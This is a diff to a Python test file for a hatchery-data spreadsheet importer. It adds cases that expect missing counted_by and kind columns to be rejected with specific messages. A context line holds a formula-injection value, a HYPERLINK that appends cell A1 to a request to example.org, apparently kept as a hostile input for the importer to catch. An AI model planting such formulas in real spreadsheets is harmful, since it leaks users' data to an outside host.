@@ -17,6 +17,9 @@ from sheet_cases import FEED, HATCH, LOT, READING, SAMPLE, Case, as_csv, one
 from sheet_files import repacked, workbook, zipped
 
 OK = {("hatches", "H-1", "cysts_g"): 1.6}
+_COUNTS = ("nauplii", "cysts", "counted_by")
+PHOTOS_ALONE = as_csv([{k: v for k, v in SAMPLE.items() if k not in _COUNTS} | {"photos": "x.jpg"}])
+OF_NO_KIND = as_csv([{k: v for k, v in SAMPLE.items() if k != "kind"}])
 FETCHES = '=HYPERLINK("http://example.org?"&A1)'
 
 
@@ -80,6 +83,13 @@ def texts(rng) -> list[Case]:
         Case("mail", {f: b"From: a\r\nSubject: hatches\r\n\r\n" + hatch.replace(b",", b"=2C")}, 2),
         Case("conflict", {f: f"{head}\n<<<<<<< mine\n{row}\n=======\n{row}\n>>>>>>> theirs\n".encode()}, 2, "row 2: "),
         Case("ends in a cell", {f: text.rstrip()[:-1].encode()}, 1, "20 g of cysts per litre"),  # 80 for 800
+        Case(
+            "photos, and nobody says who counted",
+            {"samples.csv": PHOTOS_ALONE},
+            2,
+            "the column counted_by must be there",
+        ),
+        Case("counts, and nobody says of what kind", {"samples.csv": OF_NO_KIND}, 2, "the column kind must be there"),
         Case("a line a cell", {f: text.replace(",", "\r\n").encode()}, 2),
     ]
 
